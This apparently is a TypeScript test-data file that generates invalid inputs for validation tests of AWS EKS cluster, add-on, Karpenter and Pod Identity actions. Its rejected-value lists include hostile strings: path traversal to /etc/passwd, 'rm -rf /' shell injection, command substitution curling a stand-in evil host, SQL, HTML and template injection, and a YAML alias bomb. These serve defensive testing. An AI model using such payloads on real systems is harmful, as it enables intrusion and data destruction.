import { readFileSync } from 'node:fs';
import { parse as parseYaml } from 'yaml';

/**
 * The corpus of bad inputs: every case is one bad value in one field of an
 * otherwise valid action input or route request, with the rule the error
 * message must state. Cases are generated from families of bad values
 * crossed with every field the family applies to.
 */

/** The ids of the eight actions. */
export type ActionId =
  | 'aws:eks:cluster:create'
  | 'aws:eks:addon:install'
  | 'aws:eks:karpenter:install'
  | 'aws:eks:pod-identity:create'
  | 'aws:eks:capability:create'
  | 'aws:eks:cluster:upgrade'
  | 'aws:eks:cluster:rollback'
  | 'aws:eks:cluster:delete';

/** A bad action input. */
export interface ActionCase {
  target: ActionId;
  /** The field as the error message must name it, e.g. `addons[0].name`. */
  field: string;
  /** What is wrong with the value, for the test title. */
  label: string;
  /** The complete input given to the action. */
  input: Record<string, unknown>;
  /** The rule the error message must state. */
  rule: RegExp;
  /**
   * The class of input AWS checks read-only that the case belongs to (see
   * preflightCases), for the counts of the closing note.
   */
  preflightClass?: string;
}

/** A bad route request: one parameter breaks its rule, the others are valid. */
export interface RouteCase {
  /** `GET /addons/{name}/configuration` */
  target: string;
  field: string;
  label: string;
  /** Path (with /api/eks) and query to request. */
  path: string;
  query: Record<string, string | string[]>;
  rule: RegExp;
}

const ACCOUNT = '000000000000';

/** A valid input of each action (against the sandbox's demo cluster). */
export const validActionInputs: Record<ActionId, Record<string, unknown>> = {
  'aws:eks:cluster:create': { clusterName: 'reliability' },
  'aws:eks:addon:install': {
    clusterName: 'demo',
    addons: [{ name: 'coredns' }],
  },
  'aws:eks:karpenter:install': { clusterName: 'demo' },
  'aws:eks:pod-identity:create': {
    clusterName: 'demo',
    namespace: 'orders',
    serviceAccount: 'orders-api',
  },
  'aws:eks:capability:create': { clusterName: 'demo', type: 'KRO' },
  // the seeded demo cluster runs 1.33
  'aws:eks:cluster:upgrade': { clusterName: 'demo', targetVersion: '1.34' },
  'aws:eks:cluster:rollback': { clusterName: 'demo' },
  'aws:eks:cluster:delete': { clusterName: 'demo' },
};

const ACTIONS = Object.keys(validActionInputs) as ActionId[];

/** Strings that no name, id or version field may accept. */
const hostileStrings: [label: string, value: string][] = [
  ['empty', ''],
  ['leading space', ' demo'],
  ['trailing newline', 'demo\n'],
  ['NUL byte', 'demo\u0000'],
  ['escape sequence', 'demo\u001b[31m'],
  ['zero-width space', 'de\u200bmo'],
  ['right-to-left override', '\u202eomed'],
  ['Cyrillic homoglyph', 'd\u0435mo'],
  ['accented letter', 'd\u00e9mo'],
  ['emoji', 'demo\u{1f680}'],
  ['path traversal', '../../etc/passwd'],
  ['URL-encoded traversal', '..%2F..%2Fetc'],
  ['shell injection', 'demo; rm -rf /'],
  ['command substitution', '$(curl evil.example)'],
  ['template injection', '${{ secrets.token }}'],
  ['YAML injection', 'demo\nadmin: true'],
  ['JSON injection', 'demo","admin":true,"x":"'],
  ['SQL injection', "demo' OR '1'='1"],
  ['HTML injection', '<script>alert(1)</script>'],
];

const oversized = (n: number) => 'a'.repeat(n);

const cases: ActionCase[] = [];

function actionCase(
  target: ActionId,
  field: string,
  label: string,
  patch: Record<string, unknown>,
  rule: RegExp,
) {
  cases.push({
    target,
    field,
    label,
    input: { ...validActionInputs[target], ...patch },
    rule,
  });
}

/** Sets `value` at a dotted/indexed field of the valid input (`addons[0].name`). */
function withField(target: ActionId, field: string, value: unknown) {
  const input = structuredClone(validActionInputs[target]);
  const keys = field.replace(/\[(\d+)\]/g, '.$1').split('.');
  let node: any = input;
  keys.slice(0, -1).forEach((key, i) => {
    node[key] ??= /^\d+$/.test(keys[i + 1]) ? [] : {};
    node = node[key];
  });
  node[keys.at(-1)!] = value;
  return input;
}

function fieldCase(
  target: ActionId,
  field: string,
  label: string,
  value: unknown,
  rule: RegExp,
) {
  cases.push({
    target,
    field,
    label,
    input: withField(target, field, value),
    rule,
  });
}

const TOO_LONG = /must be at most \d+ characters/;

// Cluster names, in every action.
const CLUSTER_NAME_RULE =
  /must (not be empty|start with a letter or digit and contain only letters, digits, hyphens and underscores)/;
for (const target of ACTIONS) {
  for (const [label, value] of [
    ...hostileStrings,
    ['leading hyphen', '-demo'],
    ['dot', 'demo.prod'],
  ] as const) {
    fieldCase(target, 'clusterName', label, value, CLUSTER_NAME_RULE);
  }
  fieldCase(target, 'clusterName', '101 characters', oversized(101), TOO_LONG);
  fieldCase(
    target,
    'clusterName',
    '1 MB string',
    oversized(1024 * 1024),
    TOO_LONG,
  );
}

// Kubernetes names.
const DNS_LABEL = /must (not be empty|be a DNS-1123 label)/;
const DNS_SUBDOMAIN = /must (not be empty|be a DNS-1123 subdomain)/;
const kubernetesNameValues: [string, string][] = [
  ['empty', ''],
  ['upper case', 'Orders'],
  ['underscore', 'orders_api'],
  ['trailing hyphen', 'orders-'],
  ['zero-width space', 'or\u200bders'],
  ['Cyrillic homoglyph', '\u043erders'],
  ['path traversal', '../kube-system'],
  ['shell injection', 'orders;id'],
  ['NUL byte', 'orders\u0000'],
];
for (const target of [
  'aws:eks:pod-identity:create',
  'aws:eks:karpenter:install',
] as const) {
  for (const [label, value] of kubernetesNameValues) {
    fieldCase(target, 'namespace', label, value, DNS_LABEL);
    fieldCase(target, 'serviceAccount', label, value, DNS_SUBDOMAIN);
  }
  fieldCase(target, 'namespace', '64 characters', oversized(64), TOO_LONG);
  fieldCase(
    target,
    'serviceAccount',
    '254 characters',
    oversized(254),
    TOO_LONG,
  );
}

// Regions and accounts, in every action.
const REGION_RULE = /must be an AWS region|is required/;
const ACCOUNT_RULE = /must be a 12-digit AWS account id/;
for (const target of ACTIONS) {
  for (const [label, value] of [
    ['empty', ''],
    ['no number', 'eu-west'],
    ['upper case', 'EU-WEST-1'],
    ['trailing newline', 'eu-west-1\n'],
    ['Cyrillic homoglyph', '\u0435u-west-1'],
    ['shell injection', 'eu-west-1;id'],
    ['path traversal', '../eu-west-1'],
  ]) {
    fieldCase(target, 'region', label, value, REGION_RULE);
  }
  // An empty accountId is valid: it means the credentials' own account.
  for (const [label, value] of [
    ['11 digits', '12345678901'],
    ['13 digits', '1234567890123'],
    ['letters', 'abcdefghijkl'],
    ['Arabic-Indic digits', '\u0661'.repeat(12)],
    ['trailing newline', '000000000000\n'],
  ]) {
    fieldCase(target, 'accountId', label, value, ACCOUNT_RULE);
  }
}

// Role ARNs.
const ROLE_ARN_RULE =
  /must (not be empty|be an IAM role ARN|be a role in account 000000000000|be in partition "aws")/;
const roleArnFields: [ActionId, string][] = [
  ['aws:eks:cluster:create', 'clusterRoleArn'],
  ['aws:eks:cluster:create', 'nodeRoleArn'],
  ['aws:eks:karpenter:install', 'nodeRoleArn'],
  ['aws:eks:pod-identity:create', 'roleArn'],
  ['aws:eks:capability:create', 'roleArn'],
  ['aws:eks:addon:install', 'addons[0].podIdentity.roleArn'],
];
const badRoleArns: [string, string][] = [
  ['empty', ''],
  ['role name only', 'my-role'],
  ['user ARN', `arn:aws:iam::${ACCOUNT}:user/alice`],
  ['other account', 'arn:aws:iam::111111111111:role/my-role'],
  ['other partition', `arn:aws-cn:iam::${ACCOUNT}:role/my-role`],
  ['S3 ARN', 'arn:aws:s3:::my-bucket'],
  ['short account', 'arn:aws:iam::1234:role/my-role'],
  ['space in name', `arn:aws:iam::${ACCOUNT}:role/my role`],
  ['Cyrillic homoglyph', `\u0430rn:aws:iam::${ACCOUNT}:role/my-role`],
  ['65-character name', `arn:aws:iam::${ACCOUNT}:role/${oversized(65)}`],
];
for (const [target, field] of roleArnFields) {
  for (const [label, value] of badRoleArns) {
    const input = withField(target, field, value);
    cases.push({ target, field, label, input, rule: ROLE_ARN_RULE });
  }
}

// Principal and policy ARNs.
for (const [label, value] of [
  ['group ARN', `arn:aws:iam::${ACCOUNT}:group/admins`],
  ['assumed-role ARN', `arn:aws:sts::${ACCOUNT}:assumed-role/admins/alice`],
  ['not an ARN', 'admins'],
  ['zero-width space', `arn:aws:iam::${ACCOUNT}:role/ad\u200bmins`],
]) {
  fieldCase(
    'aws:eks:cluster:create',
    'adminPrincipalArns[0]',
    label,
    value,
    /must be an IAM role or user ARN/,
  );
}
for (const [label, value] of [
  ['policy name only', 'AmazonS3ReadOnlyAccess'],
  ['role ARN', `arn:aws:iam::${ACCOUNT}:role/my-role`],
  ['no policy name', 'arn:aws:iam::aws:policy/'],
  ['shell injection', 'arn:aws:iam::aws:policy/X;id'],
]) {
  fieldCase(
    'aws:eks:pod-identity:create',
    'managedPolicyArns[0]',
    label,
    value,
    /must be an IAM policy ARN/,
  );
}
for (const [label, value] of [
  ['empty', ''],
  ['slash', 'path/role'],
  ['65 characters', oversized(65)],
  ['unicode', 'r\u00f4le'],
]) {
  fieldCase(
    'aws:eks:pod-identity:create',
    'roleName',
    label,
    value,
    /must (not be empty|contain only letters, digits and "\+=,\.@_-"|be at most 64 characters)/,
  );
}

// Kubernetes versions, subnets, VPCs, node groups.
for (const [label, value] of [
  ['major only', '1'],
  ['patch version', '1.33.0'],
  ['v prefix', 'v1.33'],
  ['word', 'latest'],
  ['major 2', '2.0'],
  ['three-digit minor', '1.333'],
]) {
  fieldCase(
    'aws:eks:cluster:create',
    'kubernetesVersion',
    label,
    value,
    /must be a Kubernetes minor version/,
  );
  fieldCase(
    'aws:eks:cluster:upgrade',
    'targetVersion',
    label,
    value,
    /must be a Kubernetes minor version/,
  );
}

// Upgrade and rollback options.
for (const [field, value, rule] of [
  ['force', 'yes', /is not of a type\(s\) boolean/],
  ['upgradeNodegroups', 'false', /is not of a type\(s\) boolean/],
  ['waitForKarpenterDrift', 1, /is not of a type\(s\) boolean/],
  ['addonVersion', 'newest', /default.*latest|must be equal to one of/],
] as [string, unknown, RegExp][]) {
  fieldCase(
    'aws:eks:cluster:upgrade',
    field,
    JSON.stringify(value),
    value,
    rule,
  );
}
fieldCase(
  'aws:eks:cluster:rollback',
  'force',
  'string',
  'yes',
  /is not of a type\(s\) boolean/,
);
for (const [label, value] of [
  ['below EKS minimum', 119],
  ['above EKS maximum', 10081],
  ['fraction', 150.5],
] as [string, number][]) {
  fieldCase(
    'aws:eks:cluster:rollback',
    'timeoutMinutes',
    label,
    value,
    /must be a whole number from 120 to 10080/,
  );
}
for (const [label, value] of [
  ['security group id', 'sg-0123456789abcdef0'],
  ['short id', 'subnet-123'],
  ['upper-case hex', 'subnet-0123456789ABCDEF0'],
  ['injection', 'subnet-01234567;id'],
]) {
  fieldCase(
    'aws:eks:cluster:create',
    'subnetIds[0]',
    label,
    value,
    /must be a subnet id/,
  );
}
actionCase(
  'aws:eks:cluster:create',
  'subnetIds',
  'one subnet',
  { subnetIds: ['subnet-0123456789abcdef0'] },
  /at least 2 subnets/,
);
actionCase(
  'aws:eks:cluster:create',
  'subnetIds',
  'repeated subnet',
  { subnetIds: ['subnet-0123456789abcdef0', 'subnet-0123456789abcdef0'] },
  /must not repeat/,
);
fieldCase(
  'aws:eks:cluster:create',
  'vpcId',
  'not a VPC id',
  'vpc-xyz',
  /must be a VPC id/,
);
const nodeGroup = {
  name: 'system',
  instanceTypes: ['m7i.large'],
  minSize: 1,
  maxSize: 3,
  desiredSize: 2,
};
for (const [field, value, rule] of [
  ['name', 'system group', /must start with a letter or digit/],
  ['instanceTypes', [], /at least one instance type/],
  ['instanceTypes[0]', 'm7i large', /must be an EC2 instance type/],
  ['minSize', -1, /whole number from 0 to 1000/],
  ['maxSize', 0, /whole number from 1 to 1000/],
  ['desiredSize', 1001, /whole number from 0 to 1000/],
  ['desiredSize', 2.5, /whole number/],
  ['desiredSize', 5, /between nodeGroup\.minSize and nodeGroup\.maxSize/],
  ['capacityType', 'RESERVED', /is not one of enum values: ON_DEMAND,SPOT/],
  ['minSize', '1', /is not of a type\(s\) number/],
] as [string, unknown, RegExp][]) {
  const input = withField(
    'aws:eks:cluster:create',
    'nodeGroup',
    structuredClone(nodeGroup),
  );
  const path = field.replace(/\[(\d+)\]/g, '.$1').split('.');
  let node: any = input.nodeGroup;
  for (const key of path.slice(0, -1)) node = node[key];
  node[path.at(-1)!] = value;
  cases.push({
    target: 'aws:eks:cluster:create',
    field: `nodeGroup.${field}`,
    label: JSON.stringify(value),
    input,
    rule,
  });
}

// Tags.
const tagTargets: ActionId[] = [
  'aws:eks:cluster:create',
  'aws:eks:karpenter:install',
  'aws:eks:pod-identity:create',
];
for (const target of tagTargets) {
  actionCase(
    target,
    'tags',
    'reserved aws: prefix',
    { tags: { 'aws:createdBy': 'me' } },
    /must not start with "aws:"/,
  );
  actionCase(
    target,
    'tags',
    '129-character key',
    { tags: { [oversized(129)]: 'x' } },
    /must be 1-128 characters/,
  );
  actionCase(
    target,
    'tags',
    '257-character value',
    { tags: { team: oversized(257) } },
    /at most 256 characters/,
  );
  actionCase(
    target,
    'tags',
    'number value',
    { tags: { team: 7 } },
    /is not of a type\(s\) string/,
  );
}

// Timeouts and concurrency.
for (const target of ACTIONS) {
  for (const value of [0, 59, -1, 90.5, 86401]) {
    fieldCase(
      target,
      'timeoutSeconds',
      String(value),
      value,
      /must be a whole number from 60 to 86400/,
    );
  }
  fieldCase(
    target,
    'timeoutSeconds',
    'string',
    '600',
    /is not of a type\(s\) number/,
  );
}
for (const value of [0, 21, 1.5]) {
  fieldCase(
    'aws:eks:addon:install',
    'concurrency',
    String(value),
    value,
    /must be a whole number from 1 to 20/,
  );
}

// Add-ons: names, versions, configuration values.
for (const [label, value] of [
  ...hostileStrings.filter(([l]) => l !== 'accented letter'),
  ['upper case', 'CoreDNS'],
  ['Unicode hyphen', 'vpc\u2010cni'],
  ['101 characters', oversized(101)],
]) {
  fieldCase(
    'aws:eks:addon:install',
    'addons[0].name',
    label,
    value,
    /must (not be empty|be an EKS add-on name|be at most 100 characters)/,
  );
}
fieldCase(
  'aws:eks:addon:install',
  'addons[0].name',
  'unknown add-on',
  'no-such-addon',
  /"no-such-addon" is not an EKS add-on available/,
);
actionCase(
  'aws:eks:addon:install',
  'addons[1].name',
  'listed twice',
  { addons: [{ name: 'coredns' }, { name: 'coredns' }] },
  /is listed twice/,
);
actionCase(
  'aws:eks:addon:install',
  'addons',
  'empty list',
  { addons: [] },
  /must list at least one add-on/,
);
const badAddonVersions: [string, string][] = [
  ['word', 'newest'],
  ['no v prefix', '1.11.4-eksbuild.1'],
  ['major only', 'v1'],
  ['padded keyword', ' latest'],
  ['shell injection', 'latest;id'],
];
for (const [label, value] of badAddonVersions) {
  fieldCase(
    'aws:eks:addon:install',
    'addons[0].version',
    label,
    value,
    /must be "latest", "default" or an exact version/,
  );
}
fieldCase(
  'aws:eks:addon:install',
  'addons[0].version',
  'version that does not exist',
  'v9.9.9-eksbuild.1',
  /"v9\.9\.9-eksbuild\.1" is not offered for coredns/,
);
for (const [label, value, rule] of [
  ['invalid JSON', '{"replicaCount": ', /must be JSON or YAML: /],
  ['invalid YAML', 'replicaCount: [1, 2', /must be JSON or YAML: /],
  ['a list', '- 1\n- 2', /must be a JSON or YAML object/],
  ['a string', '"two"', /must be a JSON or YAML object/],
  ['wrong type', '{"replicaCount": "two"}', /replicaCount must be integer/],
  [
    'unknown key',
    'replicas: 2',
    /replicas is not a setting of this add-on; allowed keys: .*replicaCount/,
  ],
  [
    'prototype pollution',
    '{"__proto__": {"admin": true}}',
    /__proto__ is not a setting/,
  ],
  [
    'YAML alias bomb',
    `a: &a ["x","x","x","x","x","x","x","x","x","x"]\nb: &b [${Array(10)
      .fill('*a')
      .join(',')}]\nc: &c [${Array(10).fill('*b').join(',')}]\nd: [${Array(10)
      .fill('*c')
      .join(',')}]`,
    /must be JSON or YAML: Excessive alias count/,
  ],
  [
    'YAML custom tag',
    'replicaCount: !!js/function "function(){}"',
    /must be JSON or YAML: Unresolved tag/,
  ],
  [
    '1 MB value',
    `replicaCount: ${oversized(1024 * 1024)}`,
    /replicaCount must be integer/,
  ],
] as [string, string, RegExp][]) {
  fieldCase(
    'aws:eks:addon:install',
    'addons[0].configurationValues',
    label,
    value,
    rule,
  );
}
// Configuration checked against schemas shaped as EKS returns them: vpc-cni's
// draft-06 schema with a $ref root and EKS's string formats, and the EBS CSI
// driver's 2019-09 schema with $defs, patternProperties and propertyNames.
for (const [addon, label, values, rule] of [
  [
    'vpc-cni',
    'format boolean: "yes"',
    { env: { ENABLE_PREFIX_DELEGATION: 'yes' } },
    /configurationValues\.env\.ENABLE_PREFIX_DELEGATION must be the string "true" or "false" \(format "boolean"; got "yes"\)/,
  ],
  [
    'vpc-cni',
    'format boolean: "TRUE" in another definition',
    { nodeAgent: { enableCloudWatchLogs: 'TRUE' } },
    /configurationValues\.nodeAgent\.enableCloudWatchLogs must be the string "true" or "false" \(format "boolean"; got "TRUE"\)/,
  ],
  [
    'vpc-cni',
    'format integer: "ten"',
    { env: { WARM_IP_TARGET: 'ten' } },
    /configurationValues\.env\.WARM_IP_TARGET must be a whole number .*\(format "integer"; got "ten"\)/,
  ],
  [
    'vpc-cni',
    'format integer: "1.5"',
    { env: { MINIMUM_IP_TARGET: '1.5' } },
    /configurationValues\.env\.MINIMUM_IP_TARGET must be a whole number .*\(format "integer"; got "1\.5"\)/,
  ],
  [
    'vpc-cni',
    'number where the schema wants a string',
    { env: { WARM_IP_TARGET: 10 } },
    /configurationValues\.env\.WARM_IP_TARGET must be string/,
  ],
  [
    'vpc-cni',
    'unknown key inside a $ref definition',
    { env: { WARM_IP_TARGETS: '10' } },
    /configurationValues\.env\.WARM_IP_TARGETS is not a setting of this add-on; allowed keys at this level: .*WARM_IP_TARGET/,
  ],
  [
    'vpc-cni',
    'required key missing in a $ref definition',
    { eniConfig: { create: true, region: 'eu-west-1' } },
    /configurationValues\.eniConfig\.subnets is required/,
  ],
  [
    'vpc-cni',
    'minProperties (draft-06)',
    { eniConfig: { create: true, region: 'eu-west-1', subnets: {} } },
    /configurationValues\.eniConfig\.subnets must NOT have fewer than 1 properties/,
  ],
  [
    'aws-ebs-csi-driver',
    'minimum under $defs (2019-09)',
    { node: { volumeAttachLimit: 0 } },
    /configurationValues\.node\.volumeAttachLimit must be >= 1/,
  ],
  [
    'aws-ebs-csi-driver',
    'enum under $defs (2019-09)',
    {
      controller: {
        tolerations: [{ key: 'a', operator: 'Maybe', effect: 'NoSchedule' }],
      },
    },
    /configurationValues\.controller\.tolerations\[0\]\.operator must be one of "Equal", "Exists"/,
  ],
] as [string, string, Record<string, unknown>, RegExp][]) {
  actionCase(
    'aws:eks:addon:install',
    'addons[0].configurationValues',
    `${addon} ${label}`,
    {
      addons: [
        {
          name: addon,
          configurationValues: JSON.stringify(values),
        },
      ],
    },
    rule,
  );
}
fieldCase(
  'aws:eks:addon:install',
  'addons[0].resolveConflicts',
  'unknown mode',
  'FORCE',
  /is not one of enum values/,
);
fieldCase(
  'aws:eks:addon:install',
  'addons[0].podIdentity',
  'unknown keyword',
  'automatic',
  /podIdentity is not any of/,
);

// Karpenter's own fields.
for (const [field, label, value, rule] of [
  ['chartVersion', 'word', 'latest', /Karpenter chart version/],
  ['chartVersion', 'v prefix', 'v1.8.1', /Karpenter chart version/],
  ['chartVersion', 'shell injection', '1.8.1;id', /Karpenter chart version/],
  ['queueName', 'FIFO suffix', 'queue.fifo', /SQS queue name/],
  ['queueName', '81 characters', oversized(81), /SQS queue name/],
  ['queueName', 'empty', '', /SQS queue name/],
  ['cpuLimit', 'negative', '-1', /CPU quantity/],
  ['cpuLimit', 'memory unit', '100Gi', /CPU quantity/],
  ['cpuLimit', 'exponent', '1e3', /CPU quantity/],
  ['capacityTypes', 'empty list', [], /must list "on-demand", "spot" or both/],
  ['capacityTypes[0]', 'unknown type', 'reserved', /is not one of enum values/],
  ['architectures[0]', 'unknown', 'x86', /is not one of enum values/],
  ['helmValues', 'a string', 'replicas: 2', /is not of a type\(s\) object/],
] as [string, string, unknown, RegExp][]) {
  fieldCase('aws:eks:karpenter:install', field, label, value, rule);
}

// Pod Identity's own fields.
for (const [label, value, rule] of [
  ['not JSON', 'Allow everything', /inlinePolicy must be a JSON IAM policy/],
  ['no Statement', '{"Version": "2012-10-17"}', /non-empty "Statement"/],
  ['Statement not a list', '{"Statement": "*"}', /non-empty "Statement"/],
  ['JSON null', 'null', /non-empty "Statement"/],
] as [string, string, RegExp][]) {
  fieldCase('aws:eks:pod-identity:create', 'inlinePolicy', label, value, rule);
}
actionCase(
  'aws:eks:pod-identity:create',
  'roleArn',
  'role ARN with policies',
  {
    roleArn: `arn:aws:iam::${ACCOUNT}:role/my-role`,
    managedPolicyArns: ['arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess'],
  },
  /must not be combined with roleName, managedPolicyArns or inlinePolicy/,
);

// Deletion's own fields.
fieldCase(
  'aws:eks:cluster:delete',
  'confirmClusterName',
  'another cluster',
  'dem0',
  /must equal clusterName/,
);
fieldCase(
  'aws:eks:cluster:delete',
  'karpenterQueueName',
  'shell injection',
  'Karpenter-demo;id',
  /SQS queue name/,
);

// EKS Capabilities: names, types, Argo CD's Identity Center instance.
for (const [label, value] of [
  ...hostileStrings,
  ['leading hyphen', '-argocd'],
  ['dot', 'argo.cd'],
] as const) {
  fieldCase(
    'aws:eks:capability:create',
    'capabilityName',
    label,
    value,
    /must (not be empty|start with a letter or digit and contain only letters, digits, hyphens and underscores)/,
  );
}
fieldCase(
  'aws:eks:capability:create',
  'capabilityName',
  '101 characters',
  oversized(101),
  TOO_LONG,
);
for (const [label, value] of [
  ['lower case', 'argocd'],
  ['unknown type', 'FLUX'],
  ['empty', ''],
]) {
  fieldCase(
    'aws:eks:capability:create',
    'type',
    label,
    value,
    /is not one of enum values: ARGOCD,ACK,KRO/,
  );
}
for (const [label, value] of [
  ['instance id only', 'ssoins-1234567890abcdef'],
  ['role ARN', `arn:aws:iam::${ACCOUNT}:role/argocd`],
  ['short id', 'arn:aws:sso:::instance/ssoins-1234'],
  ['shell injection', 'arn:aws:sso:::instance/ssoins-1234567890abcdef;id'],
]) {
  cases.push({
    target: 'aws:eks:capability:create',
    field: 'argoCd.awsIdc.idcInstanceArn',
    label,
    input: {
      clusterName: 'demo',
      type: 'ARGOCD',
      argoCd: { awsIdc: { idcInstanceArn: value } },
    },
    rule: /must be an IAM Identity Center instance ARN/,
  });
}
cases.push({
  target: 'aws:eks:capability:create',
  field: 'argoCd.awsIdc.idcInstanceArn',
  label: 'Argo CD without Identity Center',
  input: { clusterName: 'demo', type: 'ARGOCD' },
  rule: /is required for an ARGOCD capability/,
});

// Wrong types and missing required fields, for every action and field.
const requiredFields: Record<ActionId, string[]> = {
  'aws:eks:cluster:create': ['clusterName'],
  'aws:eks:addon:install': ['clusterName', 'addons'],
  'aws:eks:karpenter:install': ['clusterName'],
  'aws:eks:pod-identity:create': ['clusterName', 'namespace', 'serviceAccount'],
  'aws:eks:capability:create': ['clusterName', 'type'],
  'aws:eks:cluster:upgrade': ['clusterName', 'targetVersion'],
  'aws:eks:cluster:rollback': ['clusterName'],
  'aws:eks:cluster:delete': ['clusterName'],
};
for (const target of ACTIONS) {
  for (const field of requiredFields[target]) {
    const input = { ...validActionInputs[target] };
    delete input[field];
    cases.push({
      target,
      field,
      label: 'missing',
      input,
      rule: /requires property/,
    });
  }
  for (const [label, value] of [
    ['number', 42],
    ['null', null],
    ['list', ['demo']],
    ['object', { name: 'demo' }],
  ] as [string, unknown][]) {
    fieldCase(
      target,
      'clusterName',
      label,
      value,
      /is not of a type\(s\) string/,
    );
  }
}
for (const [field, value, rule] of [
  ['addons', 'coredns', /is not of a type\(s\) array/],
  ['addons[0]', 'coredns', /is not of a type\(s\) object/],
  ['addons[0].name', 7, /is not of a type\(s\) string/],
  [
    'addons[0].configurationValues',
    { replicaCount: 2 },
    /is not of a type\(s\) string/,
  ],
] as [string, unknown, RegExp][]) {
  fieldCase('aws:eks:addon:install', field, JSON.stringify(value), value, rule);
}
fieldCase(
  'aws:eks:cluster:create',
  'autoMode',
  'string',
  'yes',
  /is not of a type\(s\) boolean/,
);
fieldCase(
  'aws:eks:pod-identity:create',
  'managedPolicyArns',
  'string',
  'arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess',
  /is not of a type\(s\) array/,
);

// ---------------------------------------------------------------------------
// Inputs well-formed on their face that AWS refuses (or accepts and then
// fails on) and that can be checked read-only: each must be refused by the
// orchestrators' preflight before the first write. Each case names its class.

const role = (name: string) => `arn:aws:iam::${ACCOUNT}:role/${name}`;
/** Seeded roles: demo-cluster trusts eks, demo-node ec2, KarpenterController-demo pods. */
const EKS_ROLE = role('demo-cluster');
const EC2_ROLE = role('demo-node');
const PODS_ROLE = role('KarpenterController-demo');
const MISSING_ROLE = role('no-such-role');

function preflightCase(
  preflightClass: string,
  target: ActionId,
  field: string,
  label: string,
  patch: Record<string, unknown>,
  rule: RegExp,
) {
  cases.push({
    target,
    field,
    label,
    input: { ...validActionInputs[target], ...patch },
    rule,
    preflightClass,
  });
}

const policy = (...statements: Record<string, unknown>[]) =>
  JSON.stringify({ Version: '2012-10-17', Statement: statements });
const allowS3 = { Effect: 'Allow', Action: 's3:GetObject', Resource: '*' };

// Inline policy grammar and size (pod-identity:create makes the role first).
for (const [label, inlinePolicy, rule] of [
  [
    'Effect: Maybe',
    policy({ ...allowS3, Effect: 'Maybe' }),
    /Statement\[0\]\.Effect must be "Allow" or "Deny" \(got "Maybe"\)/,
  ],
  [
    'unknown condition operator',
    policy({
      ...allowS3,
      Condition: { StringEqualsMaybe: { 'aws:SourceVpc': 'vpc-1' } },
    }),
    /Condition\.StringEqualsMaybe is not an IAM condition operator/,
  ],
  [
    'Null with IfExists',
    policy({
      ...allowS3,
      Condition: { NullIfExists: { 'aws:TokenIssueTime': 'true' } },
    }),
    /NullIfExists is not an IAM condition operator/,
  ],
  [
    'Principal in an identity policy',
    policy({ ...allowS3, Principal: { AWS: '*' } }),
    /Principal is not allowed in an identity policy/,
  ],
  [
    'no Resource',
    policy({ Effect: 'Allow', Action: 's3:GetObject' }),
    /must have a Resource or NotResource/,
  ],
  [
    'Action and NotAction',
    policy({ ...allowS3, NotAction: 'iam:*' }),
    /must not have both Action and NotAction/,
  ],
  [
    'action without a service',
    policy({ ...allowS3, Action: 'GetObject' }),
    /must name actions as "service:Action"/,
  ],
  [
    'unknown Version',
    JSON.stringify({ Version: '2024-01-01', Statement: [allowS3] }),
    /Version must be "2012-10-17"/,
  ],
  [
    '12,000 characters without white space',
    policy({
      ...allowS3,
      Resource: Array.from(
        { length: 400 },
        (_, i) => `arn:aws:s3:::reliability-bucket-${i}/*`,
      ),
    }),
    /must be at most 10240 characters without white space/,
  ],
] as [string, string, RegExp][]) {
  preflightCase(
    'inline policy grammar and size',
    'aws:eks:pod-identity:create',
    'inlinePolicy',
    label,
    { inlinePolicy, managedPolicyArns: [] },
    rule,
  );
}

// Managed policies that do not exist (the role would be created first).
preflightCase(
  'managed policy existence',
  'aws:eks:pod-identity:create',
  'managedPolicyArns[1]',
  'AWS managed policy that does not exist',
  {
    managedPolicyArns: [
      'arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess',
      'arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccessTypo',
    ],
    inlinePolicy: policy(allowS3),
  },
  /must name an existing IAM managed policy: .*AmazonS3ReadOnlyAccessTypo does not exist/,
);
preflightCase(
  'managed policy existence',
  'aws:eks:pod-identity:create',
  'managedPolicyArns[0]',
  'customer policy that does not exist',
  { managedPolicyArns: [`arn:aws:iam::${ACCOUNT}:policy/orders-s3`] },
  /must name an existing IAM managed policy/,
);
preflightCase(
  'managed policy existence',
  'aws:eks:pod-identity:create',
  'managedPolicyArns',
  '11 policies',
  {
    managedPolicyArns: Array.from(
      { length: 11 },
      (_, i) => `arn:aws:iam::aws:policy/Policy${i}`,
    ),
  },
  /must list at most 10 policies/,
);

// Roles: existence and trust.
const TRUST_SAYS = /It says: .*It must contain: /;
const trustRule = (service: string, actions: string) =>
  new RegExp(
    `must be a role whose trust policy lets ${service.replace(
      /\./g,
      '\\.',
    )} call ${actions}; the trust policy of [\\w-]+ does not allow .*${
      TRUST_SAYS.source
    }`,
  );
for (const [target, field, label, patch, rule] of [
  [
    'aws:eks:cluster:create',
    'clusterRoleArn',
    'role trusting only ec2',
    { clusterRoleArn: EC2_ROLE },
    trustRule('eks.amazonaws.com', 'sts:AssumeRole'),
  ],
  [
    'aws:eks:cluster:create',
    'clusterRoleArn',
    'Auto Mode role trusting only ec2',
    { clusterRoleArn: EC2_ROLE, autoMode: true },
    trustRule('eks.amazonaws.com', 'sts:AssumeRole and sts:TagSession'),
  ],
  [
    'aws:eks:cluster:create',
    'nodeRoleArn',
    'node role trusting only eks',
    { nodeRoleArn: EKS_ROLE, autoMode: true },
    trustRule('ec2.amazonaws.com', 'sts:AssumeRole'),
  ],
  [
    'aws:eks:pod-identity:create',
    'roleArn',
    'role trusting eks, not pods.eks',
    { roleArn: EKS_ROLE },
    trustRule('pods.eks.amazonaws.com', 'sts:AssumeRole and sts:TagSession'),
  ],
  [
    'aws:eks:pod-identity:create',
    'roleArn',
    'role trusting ec2, not pods.eks',
    { roleArn: EC2_ROLE },
    trustRule('pods.eks.amazonaws.com', 'sts:AssumeRole and sts:TagSession'),
  ],
  [
    'aws:eks:addon:install',
    'addons[0].podIdentity.roleArn',
    'add-on role trusting ec2, not pods.eks',
    {
      addons: [
        { name: 'aws-ebs-csi-driver', podIdentity: { roleArn: EC2_ROLE } },
      ],
    },
    trustRule('pods.eks.amazonaws.com', 'sts:AssumeRole and sts:TagSession'),
  ],
  [
    'aws:eks:karpenter:install',
    'nodeRoleArn',
    'node role trusting pods.eks, not ec2',
    { nodeRoleArn: PODS_ROLE },
    trustRule('ec2.amazonaws.com', 'sts:AssumeRole'),
  ],
] as [ActionId, string, string, Record<string, unknown>, RegExp][]) {
  preflightCase('role trust', target, field, label, patch, rule);
}
